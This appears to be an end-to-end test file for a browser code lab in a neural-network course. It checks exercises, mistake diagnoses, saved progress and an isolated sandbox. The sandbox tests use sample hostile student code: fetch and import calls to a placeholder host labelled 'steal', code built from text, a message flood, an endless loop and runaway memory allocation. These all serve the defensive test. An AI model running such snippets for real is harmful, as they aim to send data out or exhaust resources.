// The code lab, as a new student meets it: write each function and pass; make a typical mistake
// and get it named; fix it; train the network on one's own code. And the sandbox: code that
// never ends, does not parse, throws, reaches for the network, floods, allocates without end or
// returns the wrong shape — each ends in a clear message, with the page still answering.
import { describe, expect, test } from 'vitest';
import type { Locator, Page } from 'playwright-core';
import { atRoot, useSite } from '../helpers/e2e.ts';
import { EXERCISES, exerciseById } from '../../src/experiments/code-lab/exercises/index.ts';

const site = useSite();

const solution = (id: string) => exerciseById(id)!.solution;

async function ready(page: Page, id: string): Promise<Locator> {
  const exercise = page.locator(`np-code-exercise[data-exercise="${id}"]`);
  await exercise.scrollIntoViewIfNeeded();
  await expect.poll(() => exercise.getAttribute('data-ready')).not.toBeNull();
  return exercise;
}

/** Replaces the editor's text as a student pasting it would. */
async function write(page: Page, exercise: Locator, code: string): Promise<void> {
  const content = exercise.locator('.cm-content');
  await content.click();
  await page.keyboard.press('Control+A');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(code);
  await expect.poll(async () => (await codeIn(exercise)).replace(/\s+/g, '')).toBe(code.replace(/\s+/g, ''));
}

/** The editor's whole text (its DOM holds only the lines near the screen). */
function codeIn(exercise: Locator): Promise<string> {
  return exercise.evaluate((el) => (el as HTMLElement & { code: string }).code);
}

/** Presses Check and waits until the check has ended; returns the status the element reports. */
async function check(exercise: Locator): Promise<string | null> {
  const before = Number((await exercise.getAttribute('data-checks')) ?? '0');
  await exercise.locator('[data-action="check"]').click();
  await expect.poll(() => exercise.getAttribute('data-checks'), { timeout: 30_000 }).toBe(String(before + 1));
  return exercise.getAttribute('data-result');
}

/** The page's main thread still answers and the exercise still takes clicks. */
async function responsive(page: Page, exercise: Locator): Promise<void> {
  expect(await page.evaluate(() => 6 * 7)).toBe(42);
  const hint = exercise.locator('[data-action="hint"]');
  if (await hint.isEnabled()) {
    await hint.click();
    await expect.poll(() => exercise.locator('[data-hint]:not([hidden])').count()).toBeGreaterThan(0);
  }
}

// Under a sub-path only the first test runs: it loads the sandbox worker by URL for every exercise
// and follows the course page's link; the rest cannot depend on the base (the worker is the same).
describe('a student writes the network', () => {
  test('each exercise passes with a correct solution, and the training runs on the student’s own code', async () => {
    const p = await site.open('lab/');
    try {
      for (const { id } of EXERCISES) {
        const exercise = await ready(p.page, id);
        await write(p.page, exercise, solution(id));
        expect(await check(exercise), id).toBe('passed');
        await expect.poll(() => exercise.locator('.lab-summary').innerText()).toMatch(/All \d+ cases pass/);
      }
      await expect.poll(() => p.page.locator('[data-lab-progress]').innerText()).toMatch(new RegExp(`${EXERCISES.length} of ${EXERCISES.length} passed`));

      const panel = p.page.locator('np-code-exercise[data-exercise="train"] [data-training]');
      const train = panel.locator('[data-action="train"]');
      await expect.poll(() => train.isEnabled()).toBe(true);
      await train.click();
      await expect.poll(() => panel.getAttribute('data-result'), { timeout: 60_000 }).toMatch(/^(trained|bit-identical)$/);
      const status = await panel.locator('[data-training-status]').innerText();
      expect(status).toMatch(/Bit-identical|differ by at most/);
      expect(Number(await panel.getAttribute('data-largest-difference'))).toBeLessThan(1e-9);
      // Two curves: the trainer's and the student's.
      expect(await panel.locator('svg path[stroke-dasharray="7 4"]').count()).toBeGreaterThan(0);

      // The lab's progress joins the course progress on the course page.
      await p.page.goto(site.url(''));
      await expect.poll(() => p.page.locator('[data-lab-progress]').innerText()).toMatch(new RegExp(`${EXERCISES.length} of ${EXERCISES.length} passed`));
      await expect.poll(() => p.page.locator('[data-progress-for="07-gradient-descent"]').innerText()).toMatch(/code lab: 2 of 2 passed/);
      expect(p.problems()).toEqual([]);
    } finally {
      await p.close();
    }
  });

  test.runIf(atRoot())('a typical mistake gets its named diagnosis, the solution opens after the attempt, and the fix passes', async () => {
    const p = await site.open('lessons/06-backpropagation/');
    try {
      const exercise = await ready(p.page, 'backward');
      const solutionButton = exercise.locator('[data-action="solution"]');
      expect(await solutionButton.isVisible()).toBe(false);
      const mistake = solution('backward').replace(' * reluPrime(z1)', '').replace(' * reluPrime(z2)', '');
      await write(p.page, exercise, mistake);
      expect(await check(exercise)).toBe('failed');
      expect(await exercise.getAttribute('data-diagnosis')).toBe('missing-mask');
      await expect.poll(() => exercise.locator('.lab-diagnosis').innerText()).toMatch(/Likely bug:.*ReLU′/);
      expect(await exercise.locator('.lab-case-bad').count()).toBeGreaterThan(0);
      await expect.poll(() => solutionButton.isVisible()).toBe(true);
      await solutionButton.click();
      await expect.poll(() => exercise.locator('[data-solution-view]').innerText()).toContain('reluPrime(z1)');

      await write(p.page, exercise, solution('backward'));
      expect(await check(exercise)).toBe('passed');
      expect(await exercise.getAttribute('data-diagnosis')).toBeNull();
      expect(p.problems()).toEqual([]);
    } finally {
      await p.close();
    }
  });

  test.runIf(atRoot())('work is saved per exercise, hints open one at a time, and reset brings back the starting code', async () => {
    const p = await site.open('lessons/02-one-relu-unit/');
    try {
      let exercise = await ready(p.page, 'relu');
      await write(p.page, exercise, 'function relu(z) { return 1; }\nfunction reluPrime(z) { return 2; }');
      const hint = exercise.locator('[data-action="hint"]');
      await hint.click();
      expect(await exercise.locator('[data-hint]:not([hidden])').count()).toBe(1);
      await hint.click();
      expect(await exercise.locator('[data-hint]:not([hidden])').count()).toBe(2);
      await expect.poll(() => p.page.evaluate(() => localStorage.getItem('nine-parameters:lab:relu') ?? '')).toContain('return 2');
      await p.page.reload();
      exercise = await ready(p.page, 'relu');
      expect(await codeIn(exercise)).toContain('return 2');
      expect(await exercise.locator('[data-hint]:not([hidden])').count()).toBe(2);
      await exercise.locator('[data-action="reset"]').click();
      await expect.poll(() => codeIn(exercise)).toContain('TODO');
      expect(p.problems()).toEqual([]);
    } finally {
      await p.close();
    }
  });

  test.runIf(atRoot())('a teacher’s link hides the solutions', async () => {
    const p = await site.open('lab/?lab.hide=solutions');
    try {
      const exercise = await ready(p.page, 'relu');
      await write(p.page, exercise, 'function relu(z) { return z; }\nfunction reluPrime(z) { return 1; }');
      expect(await check(exercise)).toBe('failed');
      expect(await exercise.locator('[data-action="solution"]').isVisible()).toBe(false);
      expect(await exercise.locator('[data-solution-note]').innerText()).toMatch(/teacher/);
    } finally {
      await p.close();
    }
  });

  test.runIf(atRoot())('the editor takes Tab for indenting and lets go of focus with Esc then Tab', async () => {
    const p = await site.open('lab/');
    try {
      const exercise = await ready(p.page, 'relu');
      const content = exercise.locator('.cm-content');
      // Reached by keyboard (focus without a pointer), Tab passes on: no trap for a reader tabbing through.
      await content.focus();
      await p.page.keyboard.press('Tab');
      expect(await p.page.evaluate(() => document.activeElement?.getAttribute('data-action'))).toBe('check');
      await content.click();
      await p.page.keyboard.press('Control+Home');
      await p.page.keyboard.press('Tab');
      // The editor sits in a shadow root (CSP-safe styles), so focus is read from that root.
      expect(await content.evaluate((el) => (el.getRootNode() as ShadowRoot).activeElement === el)).toBe(true);
      await expect.poll(async () => (await codeIn(exercise)).startsWith('  ')).toBe(true);
      await p.page.keyboard.press('Escape');
      await p.page.keyboard.press('Tab');
      expect(await p.page.evaluate(() => document.activeElement?.getAttribute('data-action'))).toBe('check');
    } finally {
      await p.close();
    }
  });
});

describe.runIf(atRoot())('the sandbox', () => {
  const cases: { name: string; code: string; status: string; error?: string; text: RegExp }[] = [
    { name: 'an endless loop is stopped', code: 'function relu(z) { while (true) {} }\nfunction reluPrime(z) { return 0; }', status: 'error', error: 'timeout', text: /did not finish.*loop that never ends/ },
    { name: 'a syntax error names its line and column', code: 'function relu(z) {\n  return z > 0 ? z : ;\n}\nfunction reluPrime(z) { return 0; }', status: 'error', error: 'syntax', text: /line 2, column \d+/ },
    { name: 'a thrown error names its line', code: 'function relu(z) {\n  throw new Error("oops");\n}\nfunction reluPrime(z) { return 0; }', status: 'error', error: 'runtime', text: /Error: oops.*line 2, column \d+/ },
    { name: 'fetch is not there', code: 'function relu(z) { fetch("https://example.org/steal"); return 0; }\nfunction reluPrime(z) { return 0; }', status: 'error', error: 'runtime', text: /fetch is not defined/ },
    { name: 'importScripts is not there', code: 'importScripts("https://example.org/x.js");\nfunction relu(z) { return 0; }\nfunction reluPrime(z) { return 0; }', status: 'error', error: 'runtime', text: /importScripts is not defined/ },
    { name: 'import() is refused before anything runs', code: 'function relu(z) { import("https://example.org/x.js"); return 0; }\nfunction reluPrime(z) { return 0; }', status: 'error', error: 'forbidden', text: /import is not available/ },
    { name: 'code built from text cannot reach the network either', code: 'function relu(z) { return Function("return fetch")(); }\nfunction reluPrime(z) { return 0; }', status: 'error', error: 'runtime', text: /Building code from text is not available/ },
    { name: 'a postMessage flood goes nowhere', code: 'for (;;) postMessage("x".repeat(1e6));\nfunction relu(z) { return 0; }\nfunction reluPrime(z) { return 0; }', status: 'error', error: 'runtime', text: /postMessage is not defined/ },
    { name: 'a huge allocation ends in a message', code: 'const keep = [];\nfunction relu(z) { for (;;) keep.push(new Float64Array(1e7)); }\nfunction reluPrime(z) { return 0; }', status: 'error', text: /memory|RangeError|did not finish|stopped/ },
    { name: 'output of the wrong shape is explained', code: 'function relu(z) { return "0"; }\nfunction reluPrime(z) { return NaN; }', status: 'failed', text: /text|NaN/ },
  ];

  test.each(cases)('$name, and the page stays responsive', async ({ code, status, error, text }) => {
    const p = await site.open('lab/');
    try {
      const exercise = await ready(p.page, 'relu');
      await write(p.page, exercise, code);
      expect(await check(exercise)).toBe(status);
      if (error) expect(await exercise.getAttribute('data-error')).toBe(error);
      const said = `${await exercise.locator('.lab-report').innerText()} ${await exercise.locator('[data-status]').innerText()}`;
      expect(said).toMatch(text);
      await responsive(p.page, exercise);
      // The lab still works afterwards.
      await write(p.page, exercise, solution('relu'));
      expect(await check(exercise)).toBe('passed');
      expect(p.externalRequests).toEqual([]);
      expect(p.consoleErrors).toEqual([]);
    } finally {
      await p.close();
    }
  });

  test('a syntax error’s “Go to line” puts the cursor on that line', async () => {
    const p = await site.open('lab/');
    try {
      const exercise = await ready(p.page, 'relu');
      await write(p.page, exercise, 'function relu(z) {\n  return z > 0 ? z : ;\n}\nfunction reluPrime(z) { return 0; }');
      await check(exercise);
      await exercise.locator('[data-action="go-to-error"]').click();
      await expect.poll(() => exercise.locator('.cm-activeLine').innerText()).toContain('return z > 0 ? z : ;');
    } finally {
      await p.close();
    }
  });
});
